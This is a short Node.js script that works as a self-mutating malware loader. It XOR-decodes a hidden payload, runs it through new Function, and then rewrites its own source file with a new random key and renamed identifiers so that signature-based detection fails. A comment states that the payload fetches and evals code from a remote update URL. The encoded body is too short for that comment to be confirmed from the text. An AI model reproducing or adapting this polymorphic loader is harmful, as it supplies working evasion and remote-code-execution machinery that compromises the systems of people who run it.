const fs = require("fs"), crypto = require("crypto");
const K = "b3f1c9a2", BODY = "6d1b4e0f5a2c19433b5e2d6f710a1b5c6e29384a1f2d3c4b5a6978";
function d(h, k) { return Buffer.from(h, "hex").map((b, i) => b ^ k.charCodeAt(i % k.length)).toString(); }
function mutate() {
  const nk = crypto.randomBytes(4).toString("hex");
  const plain = d(BODY, K);
  const nb = Buffer.from(plain).map((b, i) => b ^ nk.charCodeAt(i % nk.length)).toString("hex");
  const names = ["d", "mutate", "plain"].map(() => "_" + crypto.randomBytes(3).toString("hex"));
  let src = fs.readFileSync(__filename, "utf8").replace(K, nk).replace(BODY, nb);
  names.forEach((n, i) => { src = src.split(["d(", "mutate(", "plain"][i]).join(n + (i < 2 ? "(" : "")); });
  fs.writeFileSync(__filename, src);
}
new Function(d(BODY, K))();   // body fetches and evals https://upd.selfpatch.invalid/next
mutate();
